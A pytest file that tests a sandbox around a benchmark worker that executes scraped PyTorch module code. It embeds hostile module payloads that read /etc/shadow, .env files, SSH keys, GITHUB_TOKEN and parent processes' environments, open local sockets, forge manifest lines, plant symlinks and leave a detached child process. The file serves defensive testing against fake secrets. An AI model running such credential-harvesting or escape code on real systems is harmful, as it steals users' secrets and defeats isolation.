"""Issue 12's attacks through `run_inductor_suite.py --suite modules`, whose worker executes scraped nn.Module
source: hostile modules read the user's secrets, connect out, write outside their job (another model's manifest
line), plant symlinks for the next stage to follow, and leave a fork + setsid child behind. Before the wall the
worker ran with the network and the whole file system; the oracles here are outside the code under test. CPU
only, --backend none (the module is built and run eagerly; nothing is compiled). Fakes made in tmp_path only.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import signal
import socket
import threading
import time
from pathlib import Path

import pytest

from suite_helpers import run_modules
from test_sandbox_attacks import UnixServer, processes_named

REPO_ROOT = Path(__file__).resolve().parent.parent
SHADOW_LINE = re.compile(r"\broot:[^:\s]*:\d*:")  # /etc/shadow's first line, whatever the hash
NET = "import torch\nfrom torch import nn\nclass Net(nn.Module):\n    def forward(self, x):\n        return x * 2\n"

READER = '''
import os
found = {{}}
def grab(label, path):
    try:
        with open(path, errors="replace") as handle:
            found[label] = handle.read(200).replace("\\n", " ")
    except Exception as exc:
        found[label] = "<" + type(exc).__name__ + ">"
grab("shadow", "/etc/" + "shadow")
grab("env", {env!r})
grab("key", {key!r})
grab("checkout", {readme!r})
found["token"] = os.environ.get("GITHUB_TOKEN", "<unset>")
pid = os.getpid()
for _ in range(6):
    try:
        pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
        environ = open(f"/proc/{{pid}}/environ", "rb").read().split(b"\\0")
        home = next(v[5:].decode() for v in environ if v.startswith(b"HOME="))
    except Exception as exc:
        found[f"parent{{pid}}"] = "<" + type(exc).__name__ + ">"
        continue
    grab(f"env_of_{{pid}}", f"/proc/{{pid}}/cwd/.env")
    grab(f"key_of_{{pid}}", home + "/.ssh/id_rsa")
    found[f"token_of_{{pid}}"] = next((v.decode() for v in environ if v.startswith(b"GITHUB_TOKEN=")), "<unset>")
print("READ", found)
raise RuntimeError(" | ".join(f"{{k}}={{v}}" for k, v in found.items()))
'''

CONNECTOR = '''
import socket
for target in [("127.0.0.1", {port}), {unix!r}]:
    try:
        family = socket.AF_INET if isinstance(target, tuple) else socket.AF_UNIX
        socket.socket(family).connect(target)
    except OSError:
        pass
''' + NET

WRITER = '''
import ctypes, json, os, sys, time
def attempt(step):
    try:
        step()
    except OSError:
        pass
forged = {{"suite": "modules", "model": "victim", "mode": "inference", "dtype": "float32", "max_autotune": False,
          "status": "ok", "success": True, "forged": True}}
attempt(lambda: open({manifest!r}, "a").write(json.dumps(forged) + "\\n"))
attempt(lambda: open({outside!r}, "w").write("pwned"))
out = sys.argv[sys.argv.index("--out") + 1]  # where this worker writes: plant links for the next stage
graph = os.path.join(out, "run_planted-pid_1", "torchinductor", "g__0_inference_0.0")
attempt(lambda: os.makedirs(graph))
attempt(lambda: os.symlink({key!r}, os.path.join(graph, "output_code.py")))
attempt(lambda: os.symlink("/etc/" + "shadow", os.path.join(out, "run_planted-pid_1", "shadow")))
if os.fork() == 0:
    os.setsid()
    ctypes.CDLL(None).prctl(15, {marker!r}.encode(), 0, 0, 0)  # PR_SET_NAME: how the test finds it
    time.sleep(120)
    os._exit(0)
''' + NET


class TcpServer:
    """A TCP server on 127.0.0.1 counting the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port, self.accepted, self.running = self.sock.getsockname()[1], 0, True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                self.sock.accept()[0].close()
                self.accepted += 1
            except OSError:
                pass

    def close(self) -> None:
        time.sleep(0.3)
        self.running = False
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def suite_run(tmp_path_factory):
    """One suite run over the hostile modules and a good one, from a project folder with a .env and a HOME
    with an SSH key (both fake), GITHUB_TOKEN set; yields what the oracles saw."""
    tmp = tmp_path_factory.mktemp("suite_attacks")
    project, home, out, outside = tmp / "project", tmp / "home", tmp / "project" / "tcd", tmp / "outside"
    for folder in (home / ".ssh", project, outside):
        folder.mkdir(parents=True)
    values = {"env": "tdtest" + secrets.token_hex(12), "key": "KEYMATERIAL" + secrets.token_hex(12),
              "token": "ghp_" + secrets.token_hex(18)}
    (project / ".env").write_text(f"SOME_SETTING={values['env']}\n")
    key = home / ".ssh" / "id_rsa"
    key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{values['key']}\n-----END OPENSSH PRIVATE KEY-----\n")
    tcp, unix = TcpServer(), UnixServer(tmp / "s.sock")
    marker = "linger" + secrets.token_hex(4)
    modules = [
        {"name": "reader", "class_name": "Net", "code": READER.format(
            env=str(project / ".env"), key=str(key), readme=str(REPO_ROOT / "README.md"))},
        {"name": "connector", "class_name": "Net", "code": CONNECTOR.format(port=tcp.port, unix=str(tmp / "s.sock"))},
        {"name": "writer", "class_name": "Net", "code": WRITER.format(
            manifest=str(out / "suite" / "manifest.jsonl"), outside=str(outside / "pwned"), key=str(key),
            marker=marker)},
        {"name": "good", "class_name": "Net", "code": NET},
    ]
    patch = pytest.MonkeyPatch()
    patch.chdir(project)
    patch.setenv("HOME", str(home))
    patch.setenv("GITHUB_TOKEN", values["token"])
    try:
        done = run_modules(project, modules, "--workers-per-gpu", "2")
        time.sleep(0.5)
        tcp.close()
        unix.close()
        lines = (out / "suite" / "manifest.jsonl").read_text().splitlines()
        yield {"code": done.code, "out": out, "outside": outside, "values": values, "tcp": tcp.accepted,
               "unix": unix.accepted, "rows": [json.loads(line) for line in lines],
               "lingering": processes_named(marker)}
    finally:
        patch.undo()
        for pid in processes_named(marker):  # the old code leaves it running: clean up what we made
            os.kill(pid, signal.SIGKILL)


def test_the_good_module_still_runs(suite_run):
    rows = {row["model"]: row for row in suite_run["rows"]}
    assert rows["good"]["status"] == "ok" and rows["good"]["input_shapes"]


def test_secrets_are_out_of_reach_and_never_written(suite_run):
    reader = next(row for row in suite_run["rows"] if row["model"] == "reader")
    reads = dict(part.split("=", 1) for part in reader["error"].removeprefix("RuntimeError: ").split(" | "))
    assert {"shadow", "env", "key", "checkout", "token"} <= set(reads)
    assert all(value.startswith("<") for value in reads.values()), reads
    readme = (REPO_ROOT / "README.md").read_text().splitlines()[0]
    for path in suite_run["out"].rglob("*"):  # manifest, stats, errors.csv, logs, programs, results
        if path.is_file():
            text = path.read_text(errors="replace")
            for secret in [*suite_run["values"].values(), readme]:
                assert secret not in text, (path, secret)
            assert not SHADOW_LINE.search(text), path


def test_no_connection_leaves_the_sandbox(suite_run):
    assert (suite_run["tcp"], suite_run["unix"]) == (0, 0)


def test_nothing_is_written_outside_the_job_and_nothing_outlives_it(suite_run):
    assert [row["model"] for row in suite_run["rows"]] .count("victim") == 0  # no forged manifest line
    assert not any(row.get("forged") for row in suite_run["rows"])
    assert list(suite_run["outside"].iterdir()) == []
    assert suite_run["lingering"] == []


def test_no_planted_link_reaches_the_next_stage(suite_run):
    links = [p for p in suite_run["out"].rglob("*") if p.is_symlink()]
    assert links == []
